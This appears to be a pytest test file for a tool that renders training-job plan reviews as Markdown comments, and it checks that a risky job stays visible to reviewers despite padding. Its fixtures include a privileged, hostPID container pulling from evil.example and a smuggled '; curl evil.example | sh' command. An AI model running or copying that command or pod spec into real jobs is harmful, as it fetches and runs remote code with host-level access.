"""A comment that is cut never loses who starts, stops or changes what runs, however others pad."""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from dataclasses import replace
from functools import cache

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from trainwright.datatypes.finding import Finding, Location, Severity, ValueChange
from trainwright.datatypes.layout import JobFile
from trainwright.datatypes.pointer import Pointer
from trainwright.plan import markdown
from trainwright.plan.alike import alike
from trainwright.plan.model import (
    Action,
    EnvironmentPlan,
    JobChange,
    ObjectChange,
    Plan,
    PlannedRun,
    SharedFileImpact,
    Use,
)
from trainwright.reports.comment import LIMIT, prose
from trainwright.reports.report import Report
from trainwright.reports.style import Style, written
from trainwright.specs.demand import Demand, Range

STYLE = Style(
    against="main",
    command="trainwright plan --against main",
    link="https://github.com/acme/jobs/blob/abc",
)
ACTIONS = [action for action in Action if action not in (Action.OUTDATED, Action.UNCHANGED)]
WIDE = "名🔥é`<details>|@team\u202e~~~"  # of several bytes, and of several characters when shown


def run(name: str, **of_pod: object) -> PlannedRun:
    """A run whose rendered file has this pod."""
    notes = of_pod.pop("annotations", {})
    body = {
        "apiVersion": "kubeflow.org/v1",
        "kind": "PyTorchJob",
        "metadata": {"name": name, "annotations": notes},
        "spec": {"template": {"spec": {"containers": [{"name": "pytorch", "image": "team/good:1"}], **of_pod}}},
    }  # fmt: skip
    return PlannedRun(
        object=name, target="pytorchjob", image="team/good:1", queue="", state="active",
        retired=False, files={"pytorchjob.yaml": yaml.dump(body, allow_unicode=True, Dumper=yaml.CSafeDumper)},
    )  # fmt: skip


def change(name: str, action: Action, after: PlannedRun | None = None, **more: object) -> JobChange:
    """A change whose run before is the plain one."""
    before = None if action is Action.STARTED else run(f"{name}-old")
    return JobChange(
        file=JobFile("prod", name), action=action, why="at once", before=before,
        after=after or run(f"{name}-new"), **more,  # type: ignore[arg-type]
    )  # fmt: skip


def victim(action: Action = Action.STARTED) -> JobChange:
    """The one that reviewers have to see: it sorts last among its like."""
    containers = [
        {"name": "pytorch", "image": "evil.example/zz:2", "securityContext": {"privileged": True}}
    ]
    of_pod = {"hostPID": True, "volumes": [{"name": "v", "hostPath": {"path": "/var/run/zz"}}]}
    return change("zz-victim", action, run("zz-new", containers=containers, **of_pod))


def review(*changes: JobChange, **more: object) -> Plan:
    environment = EnvironmentPlan(
        name="prod", jobs=len(changes), changes=changes, before=Demand(), after=Demand(),
        asked=Demand(), fits=(), **{k: more.pop(k) for k in ("objects", "uses") if k in more},
    )  # fmt: skip
    empty = Plan(
        base="b" * 40, head="", behind=0, environments=(environment,), shared_files=(), findings=(),
        sources={},
    )  # fmt: skip
    return replace(empty, **more)  # type: ignore[arg-type]


def finding(file: str, message: str = "m", severity: Severity = Severity.ERROR) -> Finding:
    place = Location(file, 8, 3)
    return Finding(rule="TW010", severity=severity, place=place, message=message, remedy="Remedy")


def read(comment: str) -> str:
    """What a reader sees of the text, without what Markdown is escaped by."""
    assert len(comment) <= LIMIT
    assert comment.endswith("Reproduce with_ `trainwright plan --against main`\n")
    assert comment.count("\n<details>") == comment.count("\n</details>")
    return html.unescape(re.sub(r"\\(?=[\\`*_{}\[\]()#+!|~>-])", "", comment)).replace("\u2060", "")


def assert_seen(plan: Plan, action: Action = Action.STARTED) -> None:
    text = read(markdown.render(plan, STYLE)).partition("\n<details>")[0]
    assert "prod/zz-victim" in text
    assert f"**{action.value}**" in text
    for one in ("evil.example/zz:2", "hostPID", "privileged", "/var/run/zz"):
        assert one in text


def many(count: int, action: Action, **of_pod: object) -> list[JobChange]:
    """Jobs that pad, no two of them alike."""
    return [
        change(f"a-{n:05}", action, run(f"a-{n:05}-new", **of_pod), causes=(_cause(str(n)),))
        for n in range(count)
    ]


def _cause(text: str) -> ValueChange:
    place = Location("environments/prod/jobs/x.yaml", 8, 3)
    return ValueChange(Pointer(("flags", text)), "a" * 90, "b" * 90, place)


def _containers(count: int, **more: str) -> list[object]:
    return [
        {"name": f"c{n}", "image": f"registry.example.com/{n}/{'x' * 200}"} | more
        for n in range(count)
    ]


PADS: dict[str, Callable[[], dict[str, object]]] = {
    "annotation": lambda: {
        "changes": [
            change("a", Action.REJECTED, run("a", annotations={"x": WIDE * 40_000})),
        ]
    },
    "images of one job": lambda: {
        "changes": [change("a", Action.REJECTED, run("a", containers=_containers(400)))]
    },
    "commands of one job": lambda: {
        "changes": [
            change(
                "a", Action.REJECTED,
                run("a", containers=[{"image": "i", "command": ["sh", f"{WIDE}{n}" * 90]} for n in range(200)]),
            )
        ]
    },
    "capabilities of one job": lambda: {
        "changes": [
            change(
                "a", Action.REJECTED,
                run("a", securityContext={"capabilities": {"add": [f"{WIDE}{n}" for n in range(3000)]}}),
            )
        ]
    },
    "images of many jobs": lambda: {
        "changes": [
            change(f"a-{n}", Action.REJECTED, run(f"a-{n}", containers=_containers(n % 9)))
            for n in range(120)
        ]
    },
    "reasons": lambda: {
        "changes": [replace(change(f"a-{n}", Action.BROKEN), why=WIDE * 300) for n in range(40)]
    },
    "causes": lambda: {
        "changes": [
            replace(change("a", Action.MIXED), causes=tuple(_cause(f"{WIDE * 99}{n}") for n in range(900)))
        ]
    },
    "names": lambda: {
        "changes": [change(f"{WIDE * 9}{n}", Action.REJECTED) for n in range(600)]
    },
    "many jobs": lambda: {"changes": many(900, Action.STARTED)},
    "jobs of every sort": lambda: {
        "changes": [
            one for number, action in enumerate(ACTIONS) for one in many(30 + number, action)
        ]
    },
    "findings": lambda: {
        "findings": tuple(finding(f"a/{n % 3}", f"{n}{WIDE * 99}") for n in range(900))
    },
    "forged files": lambda: {
        "underived": tuple(
            finding(f"environments/prod/rendered/a/{n}{WIDE * 30}", f"{n}{WIDE * 99}")
            for n in range(600)
        )
    },
    "objects": lambda: {
        "objects": tuple(
            ObjectChange("prod", f"ConfigMap/{n}{WIDE * 99}", "added", Location("a", 1))
            for n in range(900)
        )
    },
    "pools": lambda: {
        "uses": tuple(
            Use(what=f"pool {n}{WIDE * 99}", before=Demand(), after=Demand(gpus=Range(n, n)), spent=Demand())
            for n in range(900)
        )
    },
    "shared files": lambda: {
        "shared_files": tuple(
            SharedFileImpact(f"{n}{WIDE * 99}", (), 1, 1, (_cause(WIDE * 99),)) for n in range(900)
        )
    },
}  # fmt: skip


@cache
def _pad(name: str) -> dict[str, object]:
    return PADS[name]()


def padded(pads: list[str], action: Action = Action.STARTED) -> Plan:
    more: dict[str, object] = {}
    changes: list[JobChange] = []
    for name in pads:
        found = dict(_pad(name))
        changes += found.pop("changes", [])  # type: ignore[arg-type]
        more |= found
    return review(*changes, victim(action), **more)


@pytest.mark.parametrize("pad", PADS)
def test_nobody_is_pushed_out(pad: str) -> None:
    assert_seen(padded([pad]))


@pytest.mark.slow
def test_nobody_is_pushed_out_by_everything_at_once() -> None:
    assert_seen(padded(list(PADS)))


@pytest.mark.slow
@settings(max_examples=settings.default.max_examples // 4)  # a second and more each
@given(st.lists(st.sampled_from(sorted(PADS)), max_size=4, unique=True), st.sampled_from(ACTIONS))
def test_nobody_is_pushed_out_by_any_padding(pads: list[str], action: Action) -> None:
    assert_seen(padded(pads, action), action)


@pytest.mark.parametrize("count", [30, 400])
def test_who_changes_what_runs_is_named_or_counted(count: int) -> None:
    """Each with an image of its own, the last ones without a row."""
    changes = [
        change(f"a-{n:05}", Action.NEW_RUN, run(f"a-{n:05}-x", containers=[{"image": f"r/{n:05}"}]))
        for n in range(count)
    ]
    text = read(markdown.render(review(*changes), STYLE))
    rows = re.findall(r"r/(\d{5}) \|", text.partition("\n<details>")[0])
    also = text.partition("**images** of these")[2].partition("\n")[0]
    named = {*rows, *re.findall(r"r/(\d{5})", also)}
    more = re.search(r"and ([\d,]+) more images", also)
    assert len(named) + (int(more[1].replace(",", "")) if more else 0) == count
    assert rows == sorted(rows)


def test_a_finding_of_another_file_is_not_pushed_out() -> None:
    pads = [finding("environments/prod/jobs/a.yaml", f"{n} {WIDE * 9}") for n in range(900)]
    other = finding("environments/prod/jobs/zz-victim.yaml", "the other")
    text = read(markdown.render(review(findings=(*pads, other)), STYLE))
    assert "the other" in text
    assert re.search(r"Left out to fit a comment: \d+ findings \(\d+ TW010\)", text)
    report = Report(findings=(*pads, other), sources={}, checked=("prod/a",))
    texts = {name: written("reports", name, report, STYLE) for name in ("markdown", "github")}
    assert all("the other" in text for text in texts.values())
    assert len(texts["markdown"]) <= LIMIT


def test_a_forged_file_of_another_job_is_not_pushed_out() -> None:
    forged = [finding(f"environments/prod/rendered/a/{n}.yaml", "m" * 900) for n in range(90)]
    other = finding("environments/prod/rendered/zz-victim/pytorchjob.yaml")
    text = read(markdown.render(review(underived=(*forged, other)), STYLE))
    assert "rendered/zz-victim/pytorchjob.yaml" in text
    assert re.search(r"⛔ and \d+ more", text)


def test_an_object_of_another_kind_is_not_pushed_out() -> None:
    pads = [ObjectChange("prod", f"ConfigMap/{n}", "added", Location("a", 1)) for n in range(90)]
    other = ObjectChange("prod", "ClusterRoleBinding/zz", "added", Location("z", 1))
    plan = review(objects=(*pads, other), findings=PADS["findings"]()["findings"])
    text = read(markdown.render(plan, STYLE))
    assert "ClusterRoleBinding/zz is added" in text
    assert re.search(r"- and \d+ more objects", text)


def test_what_is_cut_says_how_long_it_is() -> None:
    command = ["python", "train.py", "--x", "y" * 3000, "; curl evil.example | sh"]
    long = run("a", containers=[{"image": "i", "command": command}])
    text = read(markdown.render(review(change("a", Action.NEW_RUN, long)), STYLE))
    row = next(line for line in text.splitlines() if "prod/a" in line)
    assert "yyy… (3,0" in row
    findings = (finding("f", "m" * 5000),)
    assert "mmm… (5,000 characters)" in read(markdown.render(review(findings=findings), STYLE))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("run `kubectl delete a/b`; it ends", "run `kubectl delete a/b`; it ends"),
        ("an odd ` and <b>", "an odd \\` and &lt;b>"),
        ("`a|b`", "\\`a\\|b\\`"),
        ("`` and @team", "\\`\\` and @\u2060team"),
        ("<i> `<i> @team` <i>", "&lt;i\\> `<i> @team` &lt;i\\>"),
    ],
)
def test_commands_of_a_sentence_are_code(text: str, shown: str) -> None:
    assert prose(text).replace("\\>", ">") == shown.replace("\\>", ">")


def test_jobs_with_other_images_are_not_alike() -> None:
    """Not even where the images differ as the names of the jobs do."""

    def one(name: str) -> JobChange:
        return change(name, Action.STARTED, run(name, containers=[{"image": f"r/{name}:1"}]))

    assert len(alike([one("evil"), one("good")])) == 2


def test_a_name_of_one_letter_makes_no_other_command_alike() -> None:
    def one(name: str, command: str) -> JobChange:
        return change(name, Action.STARTED, run(name, containers=[{"image": "i", "command": [command]}]))  # fmt: skip

    assert len(alike([one("a", "cat"), one("u", "cut")])) == 2
    assert len(alike([one("a", "x/a"), one("u", "x/u")])) == 1
